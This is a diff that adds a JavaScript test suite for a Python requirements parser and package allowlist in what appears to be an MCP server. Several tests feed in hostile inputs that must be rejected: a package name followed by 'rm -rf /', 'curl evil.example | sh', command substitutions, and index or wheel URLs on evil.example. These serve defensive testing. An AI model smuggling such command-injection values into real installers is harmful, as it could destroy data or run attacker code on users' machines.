@@ -0,0 +1,194 @@
+import { test, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parseRequirement, readRequirementsFile, Config, MCPServer } from '../src/index.js';
+
+const dir = mkdtempSync(join(tmpdir(), 'requirements-test-'));
+after(() => rmSync(dir, { recursive: true, force: true }));
+
+function writeFiles(files) {
+  for (const [name, content] of Object.entries(files)) {
+    writeFileSync(join(dir, name), content);
+  }
+  return join(dir, Object.keys(files)[0]);
+}
+
+// Only the policy methods are exercised, so skip the constructor's workspace setup
+function policyServer(settings = {}) {
+  const defaults = {
+    allowedPackages: [],
+    blockedPackages: [],
+    allowUrlRequirements: true,
+    allowVcsRequirements: true,
+  };
+  const server = Object.create(MCPServer.prototype);
+  server.config = { get: key => ({ ...defaults, ...settings })[key] };
+  return server;
+}
+
+test('parseRequirement: names, extras, specifiers and markers', () => {
+  assert.deepEqual(parseRequirement('numpy'), {
+    name: 'numpy', extras: [], specifier: '', url: null, vcs: false, marker: null,
+  });
+  assert.deepEqual(parseRequirement(' requests[socks, security] >= 2.0 , <3 ; python_version >= "3.8" and extra == \'x\''), {
+    name: 'requests',
+    extras: ['socks', 'security'],
+    specifier: '>=2.0,<3',
+    url: null,
+    vcs: false,
+    marker: 'python_version >= "3.8" and extra == \'x\'',
+  });
+  assert.equal(parseRequirement('foo (==1.0)').specifier, '==1.0');
+  assert.equal(parseRequirement('foo; (os_name == "nt" or sys_platform not in "linux")').marker, '(os_name == "nt" or sys_platform not in "linux")');
+});
+
+test('parseRequirement: rejects shell metacharacters', () => {
+  for (const text of [
+    'numpy; rm -rf /',
+    'numpy && curl evil.example | sh',
+    'numpy`id`',
+    'numpy$(id)',
+    'numpy > /tmp/out',
+    'numpy==1.0; python_version > "3" ; echo',
+    'numpy\nrequests',
+  ]) {
+    assert.throws(() => parseRequirement(text), /Invalid requirement/, text);
+  }
+});
+
+test('parseRequirement: rejects options, paths and bare URLs', () => {
+  for (const text of ['--index-url https://evil.example', '-e .', './local/pkg', '/abs/path.whl', 'https://evil.example/x.whl', '']) {
+    assert.throws(() => parseRequirement(text), /Invalid requirement/, text);
+  }
+});
+
+test('parseRequirement: rejects unknown marker variables', () => {
+  assert.throws(() => parseRequirement('numpy; __import__ == "os"'), /unknown marker variable "__import__"/);
+});
+
+test('parseRequirement: URL and VCS requirements', () => {
+  const url = parseRequirement('numpy @ https://files.example/numpy-1.0-py3-none-any.whl ; python_version >= "3.8"');
+  assert.equal(url.url, 'https://files.example/numpy-1.0-py3-none-any.whl');
+  assert.equal(url.vcs, false);
+  assert.equal(url.marker, 'python_version >= "3.8"');
+
+  const vcs = parseRequirement('mylib[cli] @ git+https://git.example/mylib.git@v1.0');
+  assert.equal(vcs.url, 'git+https://git.example/mylib.git@v1.0');
+  assert.equal(vcs.vcs, true);
+  assert.deepEqual(vcs.extras, ['cli']);
+
+  assert.throws(() => parseRequirement('numpy @ not-a-url'), /expected a URL/);
+  // As in PEP 508, a marker not separated by whitespace is part of the URL
+  const glued = parseRequirement('numpy @ https://x.example/a.whl;python_version>"3"');
+  assert.equal(glued.url, 'https://x.example/a.whl;python_version>"3"');
+  assert.equal(glued.marker, null);
+});
+
+test('readRequirementsFile: follows -r includes, once per file', async () => {
+  const path = writeFiles({
+    'main.txt': '# top\nnumpy==1.26.4 \\\n    --hash=sha256:abc\n-r nested/../more.txt\n--requirement=main.txt\n',
+    'more.txt': 'pandas ; python_version >= "3.8"  # inline comment\n-r main.txt\n--no-index\n',
+  });
+  const entries = await readRequirementsFile(path);
+  assert.deepEqual(entries, [
+    { line: 'numpy==1.26.4', file: join(dir, 'main.txt') },
+    { line: 'pandas ; python_version >= "3.8"', file: join(dir, 'more.txt') },
+    { line: '--no-index', file: join(dir, 'more.txt'), option: '--no-index', value: '' },
+  ]);
+});
+
+test('readRequirementsFile: marks constraints, editables and source options', async () => {
+  const path = writeFiles({
+    'options.txt': '-c constraints.txt\n-e git+https://git.example/lib.git\n-i https://index.example/simple\n--find-links=/wheels\n',
+    'constraints.txt': 'numpy<2\n',
+  });
+  const entries = await readRequirementsFile(path);
+  assert.deepEqual(entries, [
+    { line: 'numpy<2', file: join(dir, 'constraints.txt'), constraint: true },
+    { line: '-e git+https://git.example/lib.git', file: path, editable: 'git+https://git.example/lib.git' },
+    { line: '-i https://index.example/simple', file: path, option: '--index-url', value: 'https://index.example/simple' },
+    { line: '--find-links=/wheels', file: path, option: '--find-links', value: '/wheels' },
+  ]);
+});
+
+test('readRequirementsFile: a file read as constraints is read again as requirements', async () => {
+  const path = writeFiles({
+    'both.txt': '-c shared.txt\n-r shared.txt\n',
+    'shared.txt': 'evil\n',
+  });
+  const entries = await readRequirementsFile(path);
+  assert.deepEqual(entries.map(entry => Boolean(entry.constraint)), [true, false]);
+});
+
+test('readRequirementsFile: rejects unknown options and remote includes', async () => {
+  await assert.rejects(readRequirementsFile(writeFiles({ 'unknown.txt': '--use-pep517\n' })), /Unsupported option "--use-pep517"/);
+  await assert.rejects(readRequirementsFile(writeFiles({ 'install-option.txt': 'numpy --install-option=--prefix=/x\n' })), /Unsupported option "--install-option/);
+  await assert.rejects(readRequirementsFile(writeFiles({ 'remote.txt': '-r https://evil.example/req.txt\n' })), /can only include local files/);
+});
+
+test('checkPackagePolicy: wildcard allowlist and blocklist on normalized names', () => {
+  const server = policyServer({ allowedPackages: ['numpy', 'types-*', 'Zope.Interface'], blockedPackages: ['types-bad*'] });
+  for (const name of ['numpy', 'NumPy', 'types-requests', 'types_PyYAML', 'zope-interface', 'zope_interface']) {
+    assert.doesNotThrow(() => server.checkPackagePolicy({ name }), name);
+  }
+  assert.throws(() => server.checkPackagePolicy({ name: 'pandas' }), /not on the server's package allowlist/);
+  assert.throws(() => server.checkPackagePolicy({ name: 'numpyx' }), /not on the server's package allowlist/);
+  assert.throws(() => server.checkPackagePolicy({ name: 'types' }), /not on the server's package allowlist/);
+  assert.throws(() => server.checkPackagePolicy({ name: 'Types.Bad-Thing' }), /on the server's package blocklist/);
+});
+
+test('checkPackagePolicy: URL and VCS requirements', () => {
+  const strict = policyServer({ allowedPackages: ['numpy'], allowUrlRequirements: false, allowVcsRequirements: false });
+  assert.throws(() => strict.validatePackages(['numpy @ https://evil.example/x.whl']), /installs from a direct URL/);
+  assert.throws(() => strict.validatePackages(['numpy @ git+https://evil.example/numpy']), /installs from a VCS checkout/);
+  assert.doesNotThrow(() => strict.validatePackages(['numpy>=1.26']));
+
+  const open = policyServer();
+  assert.doesNotThrow(() => open.validatePackages(['numpy @ https://files.example/x.whl', 'lib @ git+https://git.example/lib']));
+});
+
+test('Config: URL and VCS requirements default to blocked with an allowlist', () => {
+  const keys = ['MCP_ALLOW_URL_REQUIREMENTS', 'MCP_ALLOW_VCS_REQUIREMENTS', 'MCP_ALLOWED_PACKAGES'];
+  const saved = Object.fromEntries(keys.map(key => [key, process.env[key]]));
+  try {
+    for (const key of keys) delete process.env[key];
+    assert.equal(new Config().get('allowUrlRequirements'), true);
+    assert.equal(new Config().get('allowVcsRequirements'), true);
+
+    process.env.MCP_ALLOWED_PACKAGES = 'numpy';
+    assert.equal(new Config().get('allowUrlRequirements'), false);
+    assert.equal(new Config().get('allowVcsRequirements'), false);
+
+    process.env.MCP_ALLOW_URL_REQUIREMENTS = 'true';
+    assert.equal(new Config().get('allowUrlRequirements'), true);
+  } finally {
+    for (const key of keys) {
+      if (saved[key] === undefined) delete process.env[key];
+      else process.env[key] = saved[key];
+    }
+  }
+});
+
+test('validateRequirementsFile: applies the policy to every entry', async () => {
+  const strict = policyServer({ allowedPackages: ['numpy', 'pandas'], allowUrlRequirements: false, allowVcsRequirements: false });
+  const check = (name, content) => strict.validateRequirementsFile(writeFiles({ [name]: content }));
+
+  await check('ok.txt', 'numpy==1.26.4 --hash=sha256:abc\npandas\n--no-index\n');
+  await assert.rejects(check('index.txt', 'numpy\n--index-url https://evil.example/simple\n'), /changes where pip downloads packages from/);
+  await assert.rejects(check('extra-index.txt', '--extra-index-url=https://evil.example/simple\nnumpy\n'), /changes where pip downloads packages from/);
+  await assert.rejects(check('find-links.txt', '-f https://evil.example/wheels\nnumpy\n'), /changes where pip downloads packages from/);
+  await assert.rejects(check('url.txt', 'numpy @ https://evil.example/numpy.whl\n'), /installs from a direct URL.*\(in url\.txt\)$/);
+  await assert.rejects(check('editable.txt', '-e ./local\n'), /editable requirement/);
+  await assert.rejects(check('missing-include.txt', 'numpy\n-r nowhere.txt\n'), /Requirements file not found: .*nowhere\.txt/);
+
+  writeFiles({ 'inner.txt': 'requests\n' });
+  await assert.rejects(check('outer.txt', 'numpy\n-r inner.txt\n'), /'requests' is not on the server's package allowlist.*\(in inner\.txt\)/);
+
+  // Constraints install nothing, so only their sources are checked
+  writeFiles({ 'pins.txt': 'requests<3\n' });
+  await check('constrained.txt', 'numpy\n-c pins.txt\n');
+  writeFiles({ 'url-pins.txt': 'numpy @ https://evil.example/numpy.whl\n' });
+  await assert.rejects(check('url-constrained.txt', 'numpy\n-c url-pins.txt\n'), /installs from a direct URL/);
+});